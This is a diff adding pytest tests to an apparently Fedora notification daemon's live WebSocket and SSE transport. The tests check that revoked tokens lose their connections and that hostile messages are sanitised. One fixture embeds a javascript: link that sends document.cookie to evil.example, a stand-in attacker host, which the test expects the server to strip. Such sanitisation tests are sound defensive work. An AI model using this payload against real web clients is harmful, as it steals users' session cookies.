@@ -9,15 +9,19 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from core.test_outbox import add_notification, add_user
+from aiohttp import WSCloseCode, WSMsgType
+from core.test_outbox import add_message, add_notification, add_user
+from corpus import corpus_lines
 from sqlalchemy import update
 
 from daemon.test_http import http_config, run, serving, sqlite_database
+from fmn_core import preferences
 from fmn_core.db import Database
-from fmn_core.models import Notification, utcnow
+from fmn_core.display import SUMMARY_MAX_CHARS
+from fmn_core.models import Notification, User, utcnow
 from fmn_daemon.delivery import Senders
 from fmn_daemon.metrics import Metrics
-from fmn_daemon.transports.live import LiveHub
+from fmn_daemon.transports.live import LIVE_POLL_SECONDS, LiveHub
 
 TOKEN = "live-token-jo-aaaaaaaaaaaaaaaa"
 EVENT_KEYS = {"id", "topic", "summary", "url", "app", "filter", "created"}
@@ -33,8 +37,6 @@ def live_db(tmp_path: Path) -> Database:
 
 
 def queue_for(db: Database, user: str, count: int = 1, **values: Any) -> list[int]:
-    from fmn_core.models import User
-
     with db.begin() as session:
         row = session.query(User).filter_by(name=user).one()
         return [add_notification(session, row, "live", **values).id for _ in range(count)]
@@ -158,6 +160,114 @@ def test_live_client_gets_rows_another_daemon_sent(live_db: Database) -> None:
         return event
 
     assert run(scenario)["id"] == row
+
+
+def _replace_token(db: Database) -> str:
+    """jo removes the live token (it leaked) and makes a new one, as the TUI or bot do."""
+    with db.begin() as session:
+        actor = preferences.Actor("jo")
+        (old,) = preferences.get_context(session, actor, "live").destinations
+        preferences.remove_destination(session, actor, "live", old.id)
+        return preferences.set_destination(session, actor, "live", None).destination.address
+
+
+def test_live_websocket_ends_when_its_token_is_removed(live_db: Database) -> None:
+    config = http_config(live_db)
+    hub = LiveHub()
+
+    async def scenario() -> tuple[Any, list[int], int]:
+        async with (
+            serving(config, live_db, live=hub) as (base, client),
+            client.ws_connect(f"{base}/live/ws/{TOKEN}") as leaked,
+        ):
+            await _wait_subscribed(hub, TOKEN)
+            new_token = _replace_token(live_db)
+            (row,) = queue_for(live_db, "jo")
+            await Senders(live_db, config, Metrics(), hub).drain(10)
+            assert hub.subscribers(new_token) == 0
+            # What the old connection gets next: its end, within a poll or two,
+            # and never the notification sent to the new token.
+            received = []
+            while (message := await leaked.receive(timeout=4 * LIVE_POLL_SECONDS)).type is (
+                WSMsgType.TEXT
+            ):
+                received.append(json.loads(message.data)["id"])
+            assert row not in received
+            return message, received, leaked.close_code or 0
+
+    message, received, code = run(scenario)
+    assert message.type in (WSMsgType.CLOSE, WSMsgType.CLOSED)
+    assert code == WSCloseCode.POLICY_VIOLATION
+    assert received == []
+
+
+def test_live_sse_ends_when_its_token_is_removed(live_db: Database) -> None:
+    config = http_config(live_db)
+    hub = LiveHub()
+
+    async def scenario() -> tuple[list[str], int]:
+        async with (
+            serving(config, live_db, live=hub) as (base, client),
+            client.get(f"{base}/live/sse/{TOKEN}") as leaked,
+        ):
+            await _wait_subscribed(hub, TOKEN)
+            _replace_token(live_db)
+            (row,) = queue_for(live_db, "jo")
+            await Senders(live_db, config, Metrics(), hub).drain(10)
+            # The response ends (EOF) instead of carrying the new token's rows.
+            body = await asyncio.wait_for(leaked.content.read(), 4 * LIVE_POLL_SECONDS)
+            async with client.get(f"{base}/live/sse/{TOKEN}") as again:
+                status = again.status
+        return [line for line in body.decode().splitlines() if str(row) in line], status
+
+    leaked_lines, status = run(scenario)
+    assert leaked_lines == []
+    assert status == 404
+
+
+def _pagure_pull_request(title: str, full_url: str) -> dict[str, Any]:
+    """A real Pagure pull-request.new message whose author chose the title and link."""
+    line = next(
+        line
+        for line in corpus_lines()
+        if '"org.fedoraproject.prod.pagure.pull-request.new"' in line
+    )
+    data = json.loads(line)
+    data["body"]["pullrequest"]["title"] = title
+    data["body"]["pullrequest"]["full_url"] = full_url
+    return {key: data[key] for key in ("id", "topic", "body", "headers")}
+
+
+def test_live_pushes_what_its_catch_up_would_show_of_a_hostile_message(
+    live_db: Database,
+) -> None:
+    """A pushed event is bounded and linked as the catch-up shows the same row: no
+    javascript: link for a web client to follow, no summary of the body's size."""
+    config = http_config(live_db)
+    hub = LiveHub()
+    hostile = _pagure_pull_request(
+        "A" * 3_000, "javascript:fetch('//evil.example/'+document.cookie)"
+    )
+    with live_db.begin() as session:
+        jo = session.query(User).filter_by(name="jo").one()
+        row = add_notification(session, jo, "live", add_message(session, hostile)).id
+
+    async def scenario() -> tuple[dict[str, Any], dict[str, Any]]:
+        async with serving(config, live_db, live=hub) as (base, client):
+            async with client.ws_connect(f"{base}/live/ws/{TOKEN}") as socket:
+                await _wait_subscribed(hub, TOKEN)
+                await Senders(live_db, config, Metrics(), hub).drain(10)
+                pushed: dict[str, Any] = await socket.receive_json(timeout=5)
+            async with client.ws_connect(f"{base}/live/ws/{TOKEN}?since=0") as socket:
+                caught_up: dict[str, Any] = await socket.receive_json(timeout=5)
+        return pushed, caught_up
+
+    pushed, caught_up = run(scenario)
+    assert pushed["id"] == caught_up["id"] == row
+    assert pushed["url"] is None and caught_up["url"] is None
+    assert len(pushed["summary"]) == len(caught_up["summary"]) == SUMMARY_MAX_CHARS
+    assert pushed["summary"] == caught_up["summary"]
+    assert "opened a pull-request" in pushed["summary"] and pushed["summary"].endswith("A…")
 
 
 def test_live_hub_fans_out_and_drops_oldest_for_slow_clients() -> None:
